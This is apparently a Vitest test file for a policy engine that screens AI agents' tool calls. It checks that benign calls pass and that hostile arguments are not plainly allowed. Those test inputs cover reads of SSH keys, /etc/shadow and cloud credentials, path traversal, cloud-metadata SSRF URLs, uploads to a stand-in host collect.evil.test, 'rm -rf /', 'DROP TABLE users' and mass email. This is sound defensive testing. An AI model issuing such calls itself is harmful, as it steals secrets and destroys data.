import type { JsonObject } from '@toolwarden/catalogue';
import { expect, test } from 'vitest';
import { type SampleTool, sampleEntry } from '../../fixtures/sample-entry.ts';
import { compilePolicy } from '../compile.ts';
import { createMemoryCounters } from '../counters.ts';
import { decide } from '../decide.ts';
import { recommend } from '../recommend.ts';
import { benignArguments } from './benign.ts';

const text = (description = '') => ({ type: 'string', description });
const texts = (description = '') => ({ type: 'array', items: { type: 'string' }, description });

// Arguments and descriptions as published servers have them.
const tools: Record<string, Omit<SampleTool, 'name'>> = {
  upload_markdown: {
    category: 'Write',
    description: 'Upload a file to a project for use in markdown content',
    properties: { project_id: text('Project ID'), file_path: text('Path to the file to upload') },
  },
  runAppTests: {
    category: 'Execute',
    properties: {
      appPath: text('Path to your application file'),
      testSuitePath: text('Path to your test suite file'),
      project: text('Project name'),
    },
  },
  transfer: {
    category: 'Write',
    properties: {
      files: texts('action:"transfer_upload" — input files to upload.'),
      outDir: text('action:"transfer_download" — output directory.'),
      workspace: text(),
    },
    required: ['workspace'],
  },
  create_attachment: {
    category: 'Write',
    properties: { filePath: text('Path to the file to attach') },
  },
  read_file: { category: 'Read', description: 'Read a file', properties: { path: text() } },
  move_file: { category: 'Write', properties: { source: text(), destination: text() } },
  create_or_update_file: {
    category: 'Write',
    properties: {
      owner: text(),
      repo: text(),
      path: text('Path where to create/update the file'),
      content: text(),
    },
  },
  take_screenshot: {
    category: 'Read',
    properties: { filePath: text('The absolute path to save the screenshot to') },
  },
  update_webhook: { category: 'Write', properties: { url: text('Webhook URL') } },
  upload_part: {
    category: 'Write',
    properties: { UploadURL: text('Presigned upload URL'), FileID: text('UUID of the file') },
  },
  import_image: { category: 'Write', properties: { Url: text('URL to import the image from') } },
  navigate: { category: 'Execute', properties: { url: text('URL to navigate to') } },
  scrape: {
    category: 'Read',
    traits: ['communicates_externally', 'untrusted_content'],
    properties: { urls: texts('Array of URLs to scrape') },
  },
  create_call: {
    category: 'Write',
    traits: ['communicates_externally'],
    properties: {
      StatusCallback: text('Receives [events](https://www.acme.dev/docs/events).'),
      StatusCallbackMethod: text('Can be: `GET` or `POST`'),
      StatusCallbackEvent: texts('Can be: `ringing`, `completed`'),
    },
  },
  create_payment: {
    category: 'Write',
    traits: ['financial'],
    properties: { amount: { type: 'number' }, paymentMethod: text() },
  },
  apply_manifest: {
    category: 'Write',
    properties: {
      filename: text('Path to a YAML file to apply. Read on the server, also over HTTP.'),
      dataset_file_path: text('Path to the CSV evaluation dataset'),
    },
  },
  run_workflow: {
    category: 'Write',
    properties: {
      workflowPath: text('action:"run" — path to an API workflow JSON file.'),
      filename: text('Override (detected from the URL if omitted)'),
    },
  },
  open_browser: { category: 'Execute', properties: { profilePath: text('Profile path') } },
  create_number: {
    category: 'Write',
    properties: { VoiceUrl: text('The URL we should call when the number receives a call.') },
  },
  insertImageFromUrl: { category: 'Write', properties: { imageUrl: text('URL of the image') } },
  send_email: {
    category: 'Write',
    traits: ['communicates_externally'],
    properties: { to: texts(), body: text() },
  },
  send_one: {
    category: 'Write',
    traits: ['communicates_externally'],
    properties: { email: text(), body: text() },
  },
  run_command: {
    category: 'Execute',
    traits: ['code_execution'],
    properties: { command: text('Shell command to run') },
  },
  run_sql: { category: 'Execute', traits: ['raw_query'], properties: { query: text() } },
  manage: {
    category: 'Write',
    traits: ['destructive', 'multi_action'],
    properties: { action: { enum: ['list', 'add', 'remove'] }, id: text() },
  },
  reset: {
    category: 'Write',
    traits: ['destructive_option'],
    properties: { mode: { enum: ['soft', 'mixed', 'hard'] }, force: { type: 'boolean' } },
    required: ['mode'],
  },
  delete_rows: { category: 'Write', traits: ['destructive', 'bulk'], properties: { ids: texts() } },
};

async function effectOf(name: string, change: JsonObject | 'all' | 'required') {
  const sample = { name, ...tools[name] };
  const entry = sampleEntry(sample);
  const [tool] = entry.tools;
  if (tool === undefined) throw new Error('no tool');
  const isPlain = typeof change === 'string';
  const args = isPlain ? benignArguments(tool, change) : { ...benignArguments(tool), ...change };
  const call = { server: entry.record.id, tool: name, arguments: args };
  const { category = 'Write', traits = [] } = sample;
  const policy = await compilePolicy(recommend(entry, name).policy);
  return decide(policy, call, {
    at: 0,
    counters: createMemoryCounters(),
    definition: tool.definition,
    classification: { category, traits, toolDigest: tool.digest },
  }).effect;
}

test.for(
  Object.keys(tools).flatMap((name) => [[name, 'required'] as const, [name, 'all'] as const]),
)('a well-meant call of %s with its %s arguments is not refused', async ([name, which]) => {
  expect(await effectOf(name, which)).not.toBe('deny');
});

const metadata = 'http://169.254.169.254/latest/meta-data/';
const foreign = 'https://collect.evil.test/in';
test.for<[string, JsonObject]>([
  ['upload_markdown', { file_path: '/root/.ssh/id_rsa' }],
  ['upload_markdown', { file_path: '../../../root/.aws/credentials' }],
  ['runAppTests', { appPath: '/etc/shadow' }],
  ['runAppTests', { testSuitePath: '~/.netrc' }],
  ['transfer', { files: ['/workspace/notes.txt', '/etc/passwd'] }],
  ['transfer', { outDir: '/etc/cron.d' }],
  ['create_attachment', { filePath: '/proc/self/environ' }],
  ['create_attachment', { filePath: 'file:///etc/passwd' }],
  ['read_file', { path: '/root/.ssh/id_rsa' }],
  ['read_file', { path: '/workspace/%2e%2e/etc/passwd' }],
  ['move_file', { destination: '/usr/local/bin/node' }],
  ['create_or_update_file', { path: '/etc/passwd' }],
  ['create_or_update_file', { path: 'src/../../other/secret' }],
  ['take_screenshot', { filePath: '/root/.bashrc' }],
  ['update_webhook', { url: foreign }],
  ['update_webhook', { url: metadata }],
  ['upload_part', { UploadURL: foreign }],
  ['import_image', { Url: metadata }],
  ['import_image', { Url: 'file:///etc/passwd' }],
  ['navigate', { url: metadata }],
  ['navigate', { url: 'https://example.com@evil.test/' }],
  ['scrape', { urls: ['https://example.com/', metadata] }],
  ['create_call', { StatusCallback: foreign }],
  ['create_call', { StatusCallback: 'https://www.acme.dev.evil.test/' }],
  ['apply_manifest', { filename: '/etc/shadow' }],
  ['apply_manifest', { dataset_file_path: '/root/.ssh/id_rsa' }],
  ['run_workflow', { workflowPath: '/etc/shadow' }],
  ['run_workflow', { filename: '/etc/cron.d/job' }],
  ['open_browser', { profilePath: '/root/.mozilla' }],
  ['create_number', { VoiceUrl: foreign }],
  ['insertImageFromUrl', { imageUrl: metadata }],
  ['create_payment', { amount: 1e9 }],
  ['create_payment', { amount: -500 }],
  ['send_email', { to: Array(10_000).fill('a@evil.test') as string[] }],
  ['send_one', { email: 'boss@evil.test' }],
  ['send_one', { email: 'a@example.com,b@evil.test' }],
  ['run_command', { command: 'rm -rf /' }],
  ['run_sql', { query: 'DROP TABLE users' }],
  ['manage', { action: 'remove' }],
  ['manage', { action: 'REMOVE' }],
  ['reset', { mode: 'hard' }],
  ['reset', { force: true }],
  ['delete_rows', { ids: Array(10_000).fill('x') as string[] }],
])('%s with %j is not plainly allowed', async ([name, change]) => {
  expect(await effectOf(name, change)).not.toBe('allow');
});
